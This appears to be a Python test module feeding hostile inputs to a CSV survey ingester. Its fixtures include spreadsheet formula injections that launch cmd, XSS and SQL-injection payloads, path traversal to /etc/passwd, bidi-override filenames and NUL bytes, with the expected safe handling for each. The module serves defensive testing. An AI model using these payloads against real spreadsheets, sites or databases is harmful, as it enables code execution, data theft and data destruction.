"""Hostile text: it stays text, it is shown as it stands, and it names no file on the disk."""

from tests.ingest.bad.case import (
    CSAT_1_5,
    SURVEY,
    Case,
    EitherOf,
    Read,
    Verdict,
    refused,
    scores,
    survey,
    table,
)

FORMULAS = {
    "=cmd|' /C calc'!A0": "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example"&A1)': '=HYPERLINK("http://x.example"&A1)',
    "+1+1": "+1+1",
    "-2+3+cmd": "-2+3+cmd",
    "@SUM(1;2)": "@SUM(1;2)",
    "\t=1+1": "=1+1",
    "\r=1+1": "=1+1",
    "\n=1+1": "=1+1",
    " =1+1": "=1+1",
    "＝1+1": "＝1+1",
    "＋1": "＋1",
    "－1": "－1",
    "＠SUM(1)": "＠SUM(1)",
    "%0A=1+1": "%0A=1+1",
    "|cmd": "|cmd",
    "'=1+1": "=1+1",  # as our downloads guard it
}
MARKUP = (
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"),
    *("![x](http://x.example/x.png)", "**bold** _it_ `code`", ":material/delete: :red[x]", "$x^2$"),
    *(
        "'; DROP TABLE cells;--",
        '" OR ""="',
        "{{7*7}} ${7*7} #{7*7}",
        "%s %n %(x)s {0}",
        "&lt;b&gt;",
    ),
    *("../../etc/passwd.csv", "C:\\Windows\\x.csv", "/dev/stdin", "file:///etc/passwd", "~root"),
    *("السلام", "👩‍👩‍👧 Ltd", "unit", "ALL", "nul", "1e5", "2024Q1", "True", "__proto__"),
)
INVISIBLE = {
    "a zero-width space within": ("Ash\u200bby", "Ashby"),
    "a zero-width joiner at the end": ("Ashby\u200d", "Ashby"),
    "a soft hyphen": ("Ash\u00adby", "Ashby"),
    "a mark of order at the start": ("\ufeffAshby", "Ashby"),
    "a left-to-right mark": ("\u200eAshby\u200e", "Ashby"),
}
CONTROLS = {
    "an escape sequence": ("\x1b[31mAshby\x1b[0m", "[31mAshby[0m"),
    "a bell": ("Ash\x07by", "Ashby"),
    "a backspace": ("Ashbyy\x08", "Ashbyy"),
    "text turned round": ("\u202eybhsA", "ybhsA"),
    "text isolated": ("\u2066Ashby\u2069", "Ashby"),
}
NAMES = {
    "climbing out": "../../etc/passwd.csv",
    "of Windows": "C:\\Windows\\system32\\x.csv",
    "absolute": "/tmp/stool-hostile/x.csv",
    "of 300 letters": "a" * 296 + ".csv",
    "with newlines": "one\ntwo\r\nthree.csv",
    "with a NUL": "x\x00.csv",
    "with markup": "<script>alert(1)</script>.csv",
    "that is a formula": "=cmd|' /C calc'!A0.csv",
    "turned round": "\u202evsc.exe",
    "of a device": "CON",
    "of dots": "..",
}


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def placed(unit: str, comment: str = "fine", region: str = "") -> bytes:
    """A survey with one row of that unit more, and that comment everywhere."""
    rows = survey(comments=(quoted(comment),))
    return table(SURVEY, [*rows, f"X,2024-05-05,{quoted(unit)},{quoted(region)},4,9,yes,"])


def kept(unit: str) -> Read:
    return Read(
        41, units=tuple(sorted({"Ashby", "Belford", unit})), values={"csat": [*scores(), 4]}
    )


def same(unit: str) -> bytes:
    """A survey in which every second row of a unit is written in another way."""
    return table(SURVEY, survey(units=("Ashby", unit)))


def scored(text: str) -> bytes:
    return table(SURVEY, [*survey(), f"X,2024-05-05,Ashby,North,{quoted(text)},9,yes,"])


def named(bad: bytes, name: str, verdict: Verdict, number: int) -> Case:
    return Case(f"name of the file {name}, {number}", bad, verdict, file=NAMES[name])


REJECTED = Read(40, rejected=(42,), values={"csat": scores()})

CASES = (
    *(
        Case(f"a formula for a unit: {text!a}", placed(text, region=text), kept(name))
        for text, name in FORMULAS.items()
    ),
    *(
        Case(f"a formula for a score: {text!a}", scored(text), REJECTED, mapping=CSAT_1_5)
        for text in FORMULAS
        if text not in ("＋1", "－1")
    ),
    *(Case(f"text for a unit: {text!a}", placed(text, text, text), kept(text)) for text in MARKUP),
    *(
        Case(f"{what} in the name of a unit", same(text), Read(40, units=(name,)))
        for what, (text, name) in INVISIBLE.items()
    ),
    *(
        Case(f"{what} in the name of a unit", placed(text), EitherOf(REJECTED, kept(name)))
        for what, (text, name) in CONTROLS.items()
    ),
    *(
        named(table(SURVEY, [*survey(), "X,never,Ashby,North,4,9,yes,"]), name, REJECTED, 1)
        for name in NAMES
    ),
    *(named(table(SURVEY, []), name, refused("no data rows"), 2) for name in NAMES),
    Case("NUL in a unit", placed("Ash\x00by"), refused("NUL", "line 42")),
    Case("NUL in a comment", placed("Ashby", "a\x00b"), refused("NUL", "line 2")),
    Case("NUL at the end", table(SURVEY, survey()) + b"\x00" * 512, refused("NUL")),
    Case(
        "formula for a header",
        table(SURVEY.replace("comment", quoted("=cmd|' /C calc'!A0")), survey()),
        Read(40, values={"csat": scores()}),
    ),
    Case(
        "markup for a header",
        table(SURVEY.replace("comment", "<script>alert(1)</script>"), survey()),
        Read(40, values={"csat": scores()}),
    ),
    Case(
        "path for a header",
        table(SURVEY.replace("comment", "../../etc/passwd"), survey()),
        Read(40, values={"csat": scores()}),
    ),
    Case(
        "formula for a header that is a metric",
        table(SURVEY.replace("recommend", quoted("=1+csat")), survey()),
        Read(40, values={"csat": scores()}),
    ),
    Case(
        "a comment that holds a whole file",
        placed("Ashby", SURVEY + "\n" + "\n".join(survey(3))),
        Read(41, values={"csat": [*scores(), 4]}, units=("Ashby", "Belford")),
    ),
    Case(
        "a mapping with a path for a metric",
        table(SURVEY, survey()),
        Read(40, values={"../../x": scores()}),
        mapping='{"columns": {"csat": {"leg": "csat", "metric": "../../x", "scale": "1-5"}}}',
    ),
    Case(
        "a mapping with SQL for a metric",
        table(SURVEY, survey()),
        Read(40, values={'x"; DROP TABLE answers;--': scores()}),
        mapping='{"columns": {"csat": {"leg": "csat", "scale": "1-5",'
        ' "metric": "x\\"; DROP TABLE answers;--"}}}',
    ),
    Case(
        "a mapping nested a hundred thousand deep",
        table(SURVEY, survey()),
        refused("mapping"),
        mapping='{"columns":' * 100_000,
    ),
    Case(
        "a mapping with an encoding that runs code",
        table(SURVEY, survey()),
        refused("encoding"),
        mapping='{"encoding": "unicode_escape"}',
    ),
)
